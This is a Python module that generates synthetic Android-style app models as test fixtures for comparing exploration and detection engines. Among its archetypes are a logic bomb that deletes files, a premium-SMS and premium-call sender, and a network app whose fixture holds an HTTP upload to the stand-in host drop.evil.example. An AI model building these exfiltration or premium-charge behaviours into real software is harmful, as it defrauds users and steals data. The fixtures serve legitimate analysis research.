"""Synthetic app corpus for engine-comparison experiments.

Twenty-odd deterministic app models built from a handful of archetypes:
plain menu apps both engines saturate, apps whose block mass hides
behind categorized-textfield gates, broadcast/SMS/call-gated logic
bombs, a crasher, a self-texting app, a premium-SMS sender and one
network-chatty app that exercises every pipeline verdict.

Each archetype builder adds its blocks, activities, transitions and
receivers to one ``_App``; only ``_App.doc`` knows the document's key
order, and ``build_corpus`` stores what it returns.

``attainment_eligible`` marks apps on which systematic exploration must
reach exactly the oracle's block set (only non-empty/category gates, no
partial-key collisions, crash reachable last if at all).
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cached_property, partial
from json.encoder import encode_basestring_ascii
from operator import itemgetter
from pathlib import Path

from .app_model import (
    PHONE_STATE_ACTION,
    SMS_RECEIVED_ACTION,
    AppModel,
    model_from_dict,
)
from .data_tables import ConfigError, default_tables
from .rng import Xoshiro256StarStar, derive_seed

# cycled to build a corpus of any size; the default 20 covers each shape
_ARCHETYPE_CYCLE = (
    "plain", "textgate", "plain", "broadcastgate", "textgate",
    "plain", "smsgate", "textgate", "dynamicgate", "plain",
    "callgate", "textgate", "selfsms", "plain", "textgate",
    "broadcastgate", "premium", "crasher", "logicbomb", "netchatty",
)

_GATE_HINTS = {
    "password": "Password",
    "email": "Email address",
    "iban": "IBAN",
    "first_name": "First name",
    "pin_code": "PIN code",
}
_GATE_CATEGORIES = tuple(_GATE_HINTS)
_BROADCAST_INTENTS = (
    "android.intent.action.BOOT_COMPLETED",
    "android.net.conn.CONNECTIVITY_CHANGE",
    "android.intent.action.USER_PRESENT",
    "android.intent.action.ACTION_POWER_CONNECTED",
)


@dataclass(frozen=True)
class CorpusApp:
    name: str
    doc: dict
    gated: bool
    attainment_eligible: bool

    @cached_property
    def model(self) -> AppModel:
        """The app's model, built from ``doc`` the first time it is read.

        Building it validates the document; ``write_corpus`` never reads
        it, since ``load_app_model`` checks each file when it is read.
        """
        return model_from_dict(self.doc, source=self.name)


class _App:
    """One app document under construction. Archetype builders add blocks,
    activities, transitions and receivers to it; ``doc`` writes it out."""

    def __init__(self, package: str, seq: int):
        self.package = package
        self.own_number = f"55501{seq:04d}"
        self.blocks: list[dict] = []
        self.activities: list[dict] = []
        self.transitions: list[dict] = []
        self.declared: list[str] = []
        self.dynamic: list[dict] = []
        self.alphabet = ["filler"]

    def new(self, cls: str, method: str, count: int = 1) -> list[str]:
        first = len(self.blocks) + 1
        ids = [f"b{n}" for n in range(first, first + count)]
        self.blocks += [{"id": bid, "class": f"{self.package}.{cls}", "method": method}
                        for bid in ids]
        return ids

    def activity(self, name: str, states: dict[str, list[dict]]) -> None:
        """Adds activity ``name`` with ``states`` (state id -> elements);
        the first state is the initial one."""
        self.activities.append({
            "name": name, "initial_state": next(iter(states)),
            "states": [{"id": state, "elements": elements}
                       for state, elements in states.items()],
        })

    def ui(self, act, state, element, action, *, to=None, blocks=(), match=None,
           effects=(), crash=False) -> None:
        trigger = {"action": action}
        if match is not None:
            trigger["match"] = match
        self.transitions.append({
            "from": {"activity": act, "state": state, "element": element},
            "trigger": trigger,
            "to": None if to is None else {"activity": to[0], "state": to[1]},
            "blocks": list(blocks),
            "side_effects": list(effects),
            "crash": crash,
        })

    def rx(self, action, *, blocks=(), effects=()) -> None:
        self.transitions.append({
            "from": {"receiver": action},
            "to": None,
            "blocks": list(blocks),
            "side_effects": list(effects),
        })

    def doc(self) -> dict:
        return {
            "package": self.package,
            "main_activity": "Main",
            "own_number": self.own_number,
            "activities": self.activities,
            "transitions": self.transitions,
            "blocks": self.blocks,
            "receivers": {"declared": self.declared, "dynamic": self.dynamic},
            "alphabet": self.alphabet,
        }


def _el(kind: str, *, id=None, text=None, desc=None, hint=None, row=0,
        actions=()) -> dict:
    return {
        "kind": kind, "id": id, "text": text, "description": desc, "hint": hint,
        "bounds": [40, 100 + 170 * row, 1000, 150],
        "actions": list(actions),
    }


def _java(sig: str, origin=("app_code",)) -> dict:
    return {"kind": "java_call", "signature": sig, "origin": list(origin)}


def _sys(name: str) -> dict:
    return {"kind": "system_call", "name": name}


def _home(app: _App, elements: list[dict]) -> list[dict]:
    """Adds the one-screen ``Main`` activity (state ``home``) and returns
    its element list, which the caller may still extend."""
    app.activity("Main", {"home": elements})
    return elements


def _detail_screens(app: _App, n: int) -> list[dict]:
    """Adds ``Main/home`` with n buttons, each opening a drainable detail
    screen with a back button (kept last so systematic walks descend
    before returning), and returns the home element list."""
    home = _home(app, [])
    detail_states = {}
    for j in range(n):
        btn = f"btn_open{j}"
        home.append(_el("button", id=btn, text=f"Open {j}", row=j, actions=["click"]))
        enter = app.new("Detail", f"open{j}")
        work = app.new("Detail", f"work{j}")
        flip = app.new("Detail", f"flip{j}")
        back = app.new("Detail", f"close{j}")
        state = f"detail{j}"
        detail_states[state] = [
            _el("checkbox", id=f"check{j}", text="Option", row=0, actions=["toggle"]),
            _el("button", id=f"btn_work{j}", text="Run", row=1, actions=["click"]),
            _el("button", id=f"btn_back{j}", text="Back", row=2, actions=["click"]),
        ]
        app.ui("Main", "home", btn, "click", to=("Detail", state), blocks=enter,
               effects=[_java(f"void {app.package}.Detail.onCreate")])
        app.ui("Detail", state, f"check{j}", "toggle", blocks=flip)
        app.ui("Detail", state, f"btn_work{j}", "click", blocks=work,
               effects=[_sys("openat")])
        app.ui("Detail", state, f"btn_back{j}", "click", to=("Main", "home"), blocks=back)
    app.activity("Detail", detail_states)
    return home


def _plain(app, seq, rng):
    n = 2 + rng.randrange(2)  # 2..3 detail screens
    scroll = app.new("Main", "onScroll")
    home = _detail_screens(app, n)
    home.append(_el("generic", desc="news feed", row=n, actions=["scroll"]))
    app.ui("Main", "home", n, "scroll", blocks=scroll)


def _textgate(app, seq, rng):
    category = _GATE_CATEGORIES[seq % len(_GATE_CATEGORIES)]
    app.alphabet.insert(0, default_tables().fill(category, itemgetter(0)))
    fill = app.new("Main", "onInput")
    decor = app.new("Main", "onScroll")
    enter = app.new("Vault", "unlock", 2)
    vault_work = [app.new("Vault", f"step{i}")[0] for i in range(4)]
    vault_flip = app.new("Vault", "flip")

    form = [
        _el("textfield", id="edit_secret", hint=_GATE_HINTS[category], row=0,
            actions=["set_text"]),
        _el("button", id="btn_unlock", text="Unlock", row=1, actions=["click"]),
        _el("generic", desc="promo banner", row=2, actions=["scroll"]),
    ]
    vault = [
        _el("checkbox", id="check_armed", text="Armed", row=0, actions=["toggle"]),
    ] + [
        _el("button", id=f"btn_step{i}", text=f"Step {i}", row=1 + i, actions=["click"])
        for i in range(4)
    ]
    app.activity("Main", {"form": form, "filled": form, "vault": vault})
    app.ui("Main", "form", "edit_secret", "set_text", to=("Main", "filled"),
           blocks=fill, match={"kind": "matches_category", "category": category})
    app.ui("Main", "form", "promo banner", "scroll", blocks=decor)
    app.ui("Main", "filled", "btn_unlock", "click", to=("Main", "vault"), blocks=enter,
           effects=[_java(f"void {app.package}.Vault.<init>", ("app_code", "framework_core"))])
    app.ui("Main", "vault", "check_armed", "toggle", blocks=vault_flip)
    for i in range(4):
        app.ui("Main", "vault", f"btn_step{i}", "click", blocks=[vault_work[i]],
               effects=[_sys("write")])


# The receiver-gated archetypes, each as (intent, receiver method, extra
# origin flags, extra system calls). broadcastgate's intent (None) is
# chosen by the app's sequence number.
_RECEIVER_GATES = {
    "broadcastgate": (None, "onReceive", (), ("connect",)),
    "dynamicgate": ("android.bluetooth.device.action.ACL_CONNECTED", "onAcl",
                    ("inlined_candidate",), ()),
    "smsgate": (SMS_RECEIVED_ACTION, "onSms", (), ()),
    "callgate": (PHONE_STATE_ACTION, "onCall", (), ()),
}
GATED_ARCHETYPES = ("textgate", *_RECEIVER_GATES)


def _receivergate(archetype, app, seq, rng):
    intent, method, origin, syscalls = _RECEIVER_GATES[archetype]
    intent = intent or _BROADCAST_INTENTS[seq % len(_BROADCAST_INTENTS)]
    _detail_screens(app, 1)
    bomb = app.new("Receiver", method, 3)
    if archetype == "dynamicgate":
        # the receiver only exists once the detail screen was opened
        app.dynamic.append({"activity": "Detail", "state": "detail0", "action": intent})
    else:
        app.declared.append(intent)
    app.rx(intent, blocks=bomb,
           effects=[_java(f"void {app.package}.Receiver.{method}", ("app_code", *origin)),
                    *[_sys(name) for name in syscalls]])


def _selfsms(app, seq, rng):
    armed = app.new("Main", "enable")
    sent = app.new("Main", "send")
    recv = app.new("Receiver", "onSms", 2)
    _home(app, [
        _el("button", id="btn_enable", text="Enable", row=0, actions=["click"]),
        _el("button", id="btn_send", text="Send", row=1, actions=["click"]),
    ])
    app.ui("Main", "home", "btn_enable", "click", blocks=armed,
           effects=[{"kind": "register_receiver", "action": SMS_RECEIVED_ACTION}])
    app.ui("Main", "home", "btn_send", "click", blocks=sent,
           effects=[{"kind": "outgoing_sms", "number": app.own_number, "body": "ping-self"}])
    app.rx(SMS_RECEIVED_ACTION, blocks=recv)


def _premium(app, seq, rng):
    b_sms = app.new("Main", "sendPremium")
    b_call = app.new("Main", "dialPremium")
    b_info = app.new("Main", "showInfo")
    _home(app, [
        _el("button", id="btn_txt", text="Claim prize", row=0, actions=["click"]),
        _el("button", id="btn_dial", text="Call support", row=1, actions=["click"]),
        _el("button", id="btn_info", text="Info", row=2, actions=["click"]),
    ])
    app.ui("Main", "home", "btn_txt", "click", blocks=b_sms,
           effects=[{"kind": "outgoing_sms", "number": "81001", "body": "SUB"}])
    app.ui("Main", "home", "btn_dial", "click", blocks=b_call,
           effects=[{"kind": "outgoing_call", "number": "0900555001"}])
    app.ui("Main", "home", "btn_info", "click", blocks=b_info)


def _crasher(app, seq, rng):
    b_safe = app.new("Main", "safe")
    b_open = app.new("Main", "openTools")
    b_poke = app.new("Tools", "poke")
    b_boom = app.new("Tools", "corruptState")
    _home(app, [
        _el("button", id="btn_safe", text="Safe", row=0, actions=["click"]),
        _el("button", id="btn_tools", text="Tools", row=1, actions=["click"]),
    ])
    app.activity("Tools", {"tools": [
        _el("button", id="btn_poke", text="Poke", row=0, actions=["click"]),
        _el("button", id="btn_boom", text="Optimize", row=1, actions=["click"]),
    ]})
    app.ui("Main", "home", "btn_safe", "click", blocks=b_safe)
    app.ui("Main", "home", "btn_tools", "click", to=("Tools", "tools"), blocks=b_open)
    app.ui("Tools", "tools", "btn_poke", "click", blocks=b_poke)
    app.ui("Tools", "tools", "btn_boom", "click", blocks=b_boom, crash=True)


def _logicbomb(app, seq, rng):
    magic = "open-sesame-42"
    app.alphabet.insert(0, magic)
    visible = app.new("Main", "onAbout")
    armed = app.new("Main", "armBomb")
    payload = app.new("Bomb", "detonate", 3)
    form = [
        _el("textfield", id="edit_code", hint="Activation phrase", row=0,
            actions=["set_text"]),
        _el("button", id="btn_about", text="About", row=1, actions=["click"]),
        _el("button", id="btn_run", text="Run", row=2, actions=["click"]),
    ]
    app.activity("Main", {"form": form, "armed": form})
    app.ui("Main", "form", "edit_code", "set_text", to=("Main", "armed"),
           blocks=armed, match={"kind": "equals", "value": magic})
    app.ui("Main", "form", "btn_about", "click", blocks=visible)
    app.ui("Main", "armed", "btn_run", "click", blocks=payload, effects=[_sys("unlink")])


def _netchatty(app, seq, rng):
    def req(lines: list[str], body: bytes = b"") -> str:
        head = "\r\n".join(lines) + "\r\n\r\n"
        return head + body.decode("latin-1")

    drop_body = b"x23=MAL-DROP-001&go=1"
    effects = {
        "btn_post": {"kind": "network_request", "protocol": "http",
                     "data": req(["POST /upload HTTP/1.1", "Host: drop.evil.example",
                                  f"Content-Length: {len(drop_body)}"], drop_body)},
        "btn_ping": {"kind": "network_request", "protocol": "http",
                     "data": req(["GET /beacon HTTP/1.1", "Host: telemetry.trusted.example",
                                  "User-Agent: cage-app/1.0"])},
        "btn_misc": {"kind": "network_request", "protocol": "http",
                     "data": req(["GET /misc?id=7 HTTP/1.1", "Host: api.unknown.example"])},
        "btn_ads": {"kind": "network_request", "protocol": "https",
                    "server": "cfg.adsmogo.com",
                    "data": req(["GET /GetInfo.ashx?appid=7ffc7be9 HTTP/1.1",
                                 "Host: cfg.adsmogo.com", "Connection: Keep-Alive"])},
        "btn_bank": {"kind": "network_request", "protocol": "https",
                     "server": "secure.bank.example",
                     "data": req(["GET /account HTTP/1.1", "Host: secure.bank.example"])},
        "btn_ftp": {"kind": "network_request", "protocol": "ftp",
                    "data": "USER anonymous\r\n"},
        # intentionally malformed: dropped and logged by the pipeline
        "btn_bad": {"kind": "network_request", "protocol": "http",
                    "data": "\x00\x01 not a request"},
    }
    home = _home(app, [])
    for row, (btn, effect) in enumerate(effects.items()):
        name = btn.removeprefix("btn_")
        home.append(_el("button", id=btn, text=name.title(), row=row, actions=["click"]))
        app.ui("Main", "home", btn, "click", blocks=app.new("Net", name),
               effects=[effect, _java(f"void {app.package}.Net.request")])


_BUILDERS = {
    "plain": _plain,
    "textgate": _textgate,
    "selfsms": _selfsms,
    "premium": _premium,
    "crasher": _crasher,
    "logicbomb": _logicbomb,
    "netchatty": _netchatty,
    **{archetype: partial(_receivergate, archetype) for archetype in _RECEIVER_GATES},
}


def build_corpus(seed: int = 0, count: int = 20) -> list[CorpusApp]:
    """The corpus's ``count`` app documents of ``seed``; each app's model is
    built (and its document validated) only when ``CorpusApp.model`` is read."""
    if count < 1:
        raise ConfigError("count must be >= 1")
    apps = []
    for i in range(count):
        archetype = _ARCHETYPE_CYCLE[i % len(_ARCHETYPE_CYCLE)]
        rng = Xoshiro256StarStar(derive_seed(seed, f"corpus-app-{i}"))
        name = f"app{i:02d}_{archetype}"
        app = _App(f"com.corpus.{archetype}{i:02d}", i)
        _BUILDERS[archetype](app, i, rng)
        # logicbomb is equals-gated: the oracle can key in the magic phrase,
        # engines cannot.
        apps.append(CorpusApp(name, app.doc(), archetype in GATED_ARCHETYPES,
                              archetype != "logicbomb"))
    return apps


_LITERALS = {True: "true", False: "false", None: "null"}


def _json(value, indent: str = "\n") -> str:
    """``json.dumps(value, indent=2)`` for plain ``str``/``int``/``bool``/
    ``None``/``list``/``dict`` values (str keys only), byte for byte.

    ``json.dumps`` with an indent runs json's pure-Python encoder; this
    writer does only what plain values need and escapes strings with the
    same C function. Any other type, subclasses included, raises
    ``TypeError`` rather than being written some other way. ``indent`` is
    the newline and indent of ``value``'s line.
    """
    kind = type(value)
    if kind is str:
        return encode_basestring_ascii(value)
    if kind is int:
        return int.__repr__(value)
    if kind is dict:
        if not value:
            return "{}"
        inner = indent + "  "
        items = []
        for key, item in value.items():
            if type(key) is not str:
                raise TypeError(f"key {key!r} is not a str")
            items.append(encode_basestring_ascii(key) + ": " + _json(item, inner))
        return "{" + inner + ("," + inner).join(items) + indent + "}"
    if kind is list:
        if not value:
            return "[]"
        inner = indent + "  "
        return ("[" + inner + ("," + inner).join([_json(item, inner) for item in value])
                + indent + "]")
    if kind is bool or value is None:
        return _LITERALS[value]
    raise TypeError(f"cannot write {kind.__name__} as JSON")


def write_corpus(directory: str | Path, seed: int = 0, count: int = 20) -> list[Path]:
    """Materialize the corpus as ``.app`` files for the CLI.

    Each file is written as ``json.dumps(doc, indent=2)`` would write it,
    and is not validated here: ``load_app_model`` checks it when it is
    read. A ``.app`` file in ``directory`` that this call does not write
    is removed, so the directory holds one corpus; any other file is left
    alone.
    """
    apps = build_corpus(seed, count)
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    paths = [directory / f"{app.name}.app" for app in apps]
    names = {path.name for path in paths}
    for stale in directory.glob("*.app"):
        if stale.name not in names:
            stale.unlink()
    for app, path in zip(apps, paths):
        path.write_text(_json(app.doc) + "\n", encoding="utf-8")
    return paths
